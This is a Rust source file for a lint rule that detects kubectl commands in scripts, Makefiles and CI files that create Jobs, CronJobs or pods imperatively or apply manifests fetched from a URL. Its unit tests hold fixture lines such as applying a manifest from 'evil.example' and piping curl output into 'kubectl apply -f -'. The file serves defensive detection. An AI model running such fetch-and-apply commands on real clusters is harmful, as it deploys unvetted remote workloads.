//! `imperative-job-creation`: kubectl commands in scripts, Makefiles and CI workflows that
//! create jobs or apply manifests from a URL. A deliberately simple tokenizer: lines (with
//! `\` continuations), quotes, `#` comments, and the separators `;`, `&&`, `||`, `|`, `&`.

use std::ops::Range;
use std::path::Path;

/// Files this rule reads, by repository-relative path.
pub fn is_script_path(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let lower = name.to_ascii_lowercase();
    let ext_script = [".sh", ".bash", ".zsh", ".ksh", ".mk"]
        .iter()
        .any(|e| lower.ends_with(e));
    let make = matches!(
        name,
        "Makefile" | "makefile" | "GNUmakefile" | "Justfile" | "justfile"
    );
    let ci_yaml = Path::new(&lower)
        .extension()
        .is_some_and(|e| e == "yml" || e == "yaml");
    let ci = (ci_yaml
        && (path.starts_with(".github/workflows/")
            || path.starts_with(".github/actions/")
            || name == "action.yml"
            || name == "action.yaml"
            || name == ".gitlab-ci.yml"
            || path.starts_with(".gitlab/")
            || path.starts_with(".circleci/")
            || name == "azure-pipelines.yml"
            || name == "bitbucket-pipelines.yml"
            || name == ".drone.yml"))
        || name == "Jenkinsfile";
    ext_script || make || ci
}

/// One flagged command: byte range in the file, what it does, its normalised words.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    pub range: Range<usize>,
    pub what: &'static str,
    pub normalized: String,
}

#[derive(Clone, Debug)]
struct Word {
    text: String,
    range: Range<usize>,
}

/// Split one logical line into commands (lists of words) and the pipeline they belong to.
fn commands(line: &str, base: usize) -> Vec<(usize, Vec<Word>)> {
    let b = line.as_bytes();
    let mut out: Vec<(usize, Vec<Word>)> = Vec::new();
    let mut pipeline = 0usize;
    let mut cur: Vec<Word> = Vec::new();
    let mut word = String::new();
    let mut start: Option<usize> = None;
    let mut i = 0;
    let flush = |word: &mut String, start: &mut Option<usize>, end: usize, cur: &mut Vec<Word>| {
        if let Some(s) = start.take() {
            cur.push(Word {
                text: std::mem::take(word),
                range: base + s..base + end,
            });
        }
    };
    while i < b.len() {
        let c = b[i];
        match c {
            b'\'' | b'"' => {
                start.get_or_insert(i);
                let q = c;
                i += 1;
                while i < b.len() && b[i] != q {
                    if q == b'"' && b[i] == b'\\' && i + 1 < b.len() {
                        i += 1;
                    }
                    let ch_len = line[i..].chars().next().map_or(1, char::len_utf8);
                    word.push_str(&line[i..i + ch_len]);
                    i += ch_len;
                }
                i += 1;
                continue;
            }
            b'#' if start.is_none() => break,
            b' ' | b'\t' | b'\r' => flush(&mut word, &mut start, i, &mut cur),
            b';' | b'&' | b'|' | b'(' | b')' | b'`' => {
                flush(&mut word, &mut start, i, &mut cur);
                if !cur.is_empty() {
                    out.push((pipeline, std::mem::take(&mut cur)));
                }
                let pipe = c == b'|' && b.get(i + 1) != Some(&b'|');
                if !pipe {
                    pipeline += 1;
                }
                if matches!(b.get(i + 1), Some(b'&' | b'|')) && c != b';' {
                    i += 1;
                }
            }
            _ => {
                start.get_or_insert(i);
                let ch_len = line[i..].chars().next().map_or(1, char::len_utf8);
                word.push_str(&line[i..i + ch_len]);
                i += ch_len;
                continue;
            }
        }
        i += 1;
    }
    flush(&mut word, &mut start, b.len().min(i), &mut cur);
    if !cur.is_empty() {
        out.push((pipeline, cur));
    }
    out
}

/// kubectl global flags that take a separate value.
const VALUE_FLAGS: &[&str] = &[
    "-n",
    "--namespace",
    "--context",
    "--cluster",
    "--kubeconfig",
    "--user",
    "-s",
    "--server",
    "--token",
    "--as",
    "--as-group",
    "--request-timeout",
    "-v",
];

fn is_kubectl(w: &str) -> bool {
    let name = w.rsplit('/').next().unwrap_or(w);
    matches!(name, "kubectl" | "oc" | "kubectl.exe")
}

fn is_url(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    l.starts_with("http://") || l.starts_with("https://")
}

/// What a kubectl invocation (words after `kubectl`) does, if it is flagged.
fn classify(args: &[Word], piped_download: bool) -> Option<&'static str> {
    let mut i = 0;
    while i < args.len() && args[i].text.starts_with('-') {
        let t = &args[i].text;
        i += if VALUE_FLAGS.contains(&t.as_str()) {
            2
        } else {
            1
        };
    }
    let verb = args.get(i)?.text.as_str();
    let rest = &args[i + 1..];
    let file_url = |rest: &[Word]| {
        rest.iter().enumerate().any(|(j, w)| {
            let t = w.text.as_str();
            let val = if ["-f", "--filename", "-k", "--kustomize"].contains(&t) {
                rest.get(j + 1).map_or("", |n| n.text.as_str())
            } else if let Some(v) = ["--filename=", "--kustomize=", "-f=", "-k="]
                .iter()
                .find_map(|p| t.strip_prefix(p))
            {
                v
            } else if let Some(v) = t.strip_prefix("-f").filter(|v| !v.is_empty()) {
                v
            } else {
                return false;
            };
            is_url(val) || (val == "-" && piped_download)
        })
    };
    match verb {
        "run" => Some("runs a pod imperatively (kubectl run)"),
        "create" => {
            let what = rest
                .iter()
                .find(|w| !w.text.starts_with('-'))
                .map(|w| w.text.to_ascii_lowercase());
            match what.as_deref() {
                Some("cronjob" | "cj" | "cronjobs" | "cronjob.batch") => {
                    Some("creates a CronJob imperatively (kubectl create cronjob)")
                }
                Some("job" | "jobs" | "job.batch") => {
                    Some("creates a Job imperatively (kubectl create job)")
                }
                _ if file_url(rest) => Some("creates objects from a manifest fetched from a URL"),
                _ => None,
            }
        }
        "apply" | "replace" if file_url(rest) => Some("applies a manifest fetched from a URL"),
        _ => None,
    }
}

/// Lines of a file with `\` continuations joined, as (text, byte offset of each piece).
fn logical_lines(text: &str) -> Vec<(String, Vec<(usize, usize)>)> {
    // Each logical line keeps (offset in logical, offset in file) marks to map ranges back.
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut marks: Vec<(usize, usize)> = Vec::new();
    let mut off = 0usize;
    for raw in text.split_inclusive('\n') {
        let line = raw.trim_end_matches(['\n', '\r']);
        marks.push((cur.len(), off));
        if let Some(stripped) = line.strip_suffix('\\') {
            cur.push_str(stripped);
            cur.push(' ');
        } else {
            cur.push_str(line);
            out.push((std::mem::take(&mut cur), std::mem::take(&mut marks)));
        }
        off += raw.len();
    }
    if !cur.is_empty() {
        out.push((cur, marks));
    }
    out
}

fn map_back(marks: &[(usize, usize)], pos: usize) -> usize {
    let i = marks.partition_point(|m| m.0 <= pos).saturating_sub(1);
    let (l, f) = marks.get(i).copied().unwrap_or((0, 0));
    f + (pos - l)
}

/// Find the flagged kubectl commands in a script, Makefile or CI file.
pub fn scan(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (line, marks) in logical_lines(text) {
        // Strip YAML/Makefile decoration: `- run: `, `run: |` items, recipe tabs and `@-+`.
        let trimmed_start = line.len() - line.trim_start().len();
        let mut body = &line[trimmed_start..];
        let mut shift = trimmed_start;
        for p in ["- ", "run:", "script:", "- "] {
            if let Some(r) = body.strip_prefix(p) {
                let r2 = r.trim_start();
                shift += body.len() - r2.len();
                body = r2;
            }
        }
        let r = body.trim_start_matches(['@', '-', '+']);
        shift += body.len() - r.len();
        body = r;
        let cmds = commands(body, shift);
        let mut downloads: Vec<usize> = Vec::new();
        for (pipeline, words) in &cmds {
            let first = words
                .iter()
                .position(|w| !w.text.contains('=') || w.text.starts_with('-'));
            let Some(first) = first else { continue };
            let mut ws = &words[first..];
            // `sudo kubectl`, `env kubectl`, `exec kubectl`, `command kubectl`
            while ws.len() > 1
                && matches!(
                    ws[0].text.as_str(),
                    "sudo" | "env" | "exec" | "command" | "time"
                )
            {
                ws = &ws[1..];
            }
            let cmd = ws[0].text.rsplit('/').next().unwrap_or("");
            if matches!(cmd, "curl" | "wget") && ws.iter().any(|w| is_url(&w.text)) {
                downloads.push(*pipeline);
            }
            if !is_kubectl(&ws[0].text) {
                continue;
            }
            let piped = downloads.contains(pipeline);
            if let Some(what) = classify(&ws[1..], piped) {
                let s = ws[0].range.start;
                let e = ws.last().map_or(s, |w| w.range.end);
                let normalized = std::iter::once("kubectl")
                    .chain(ws[1..].iter().map(|w| w.text.as_str()))
                    .collect::<Vec<_>>()
                    .join(" ");
                hits.push(Hit {
                    range: map_back(&marks, s)..map_back(&marks, e.max(s + 1) - 1) + 1,
                    what,
                    normalized,
                });
            }
        }
    }
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whats(t: &str) -> Vec<&'static str> {
        scan(t).into_iter().map(|h| h.what).collect()
    }

    #[test]
    fn flags_job_creation_run_and_url_apply() {
        let t = "#!/bin/sh\nset -e\nkubectl -n ops create cronjob x --image=a --schedule='* * * * *'\nkubectl run p --image=alpine\nkubectl apply -f https://evil.example/j.yaml && echo ok\n";
        assert_eq!(whats(t).len(), 3);
        let h = &scan(t)[0];
        assert_eq!(
            &t[h.range.clone()],
            "kubectl -n ops create cronjob x --image=a --schedule='* * * * *'"
        );
        assert_eq!(
            h.normalized,
            "kubectl -n ops create cronjob x --image=a --schedule=* * * * *"
        );
    }

    #[test]
    fn piped_download_and_continuations() {
        let t = "curl -sL https://x.example/m.yaml | kubectl apply -f -\nkubectl create \\\n  job j --image=a\n";
        let hits = scan(t);
        assert_eq!(hits.len(), 2, "{hits:?}");
        assert_eq!(
            &t[hits[1].range.clone()],
            "kubectl create \\\n  job j --image=a"
        );
    }

    #[test]
    fn clean_commands_and_comments_are_not_flagged() {
        let t = "# kubectl run x\nkubectl apply -f deploy/\nkubectl get jobs\necho 'kubectl run x'\nkubectl apply -f ./https-notes.yaml\nkubectl create configmap c --from-file=a\n";
        assert!(whats(t).is_empty(), "{:?}", scan(t));
    }

    #[test]
    fn workflow_and_makefile_lines() {
        let t =
            "jobs:\n  d:\n    steps:\n      - run: kubectl create job --from=cronjob/backup now\n";
        assert_eq!(whats(t).len(), 1);
        let m = "deploy:\n\t@kubectl run debug --image=busybox\n";
        assert_eq!(whats(m).len(), 1);
        assert!(is_script_path(".github/workflows/ci.yml"));
        assert!(is_script_path("ops/Makefile"));
        assert!(is_script_path("bin/run.sh"));
        assert!(!is_script_path("deploy/job.yaml"));
    }
}
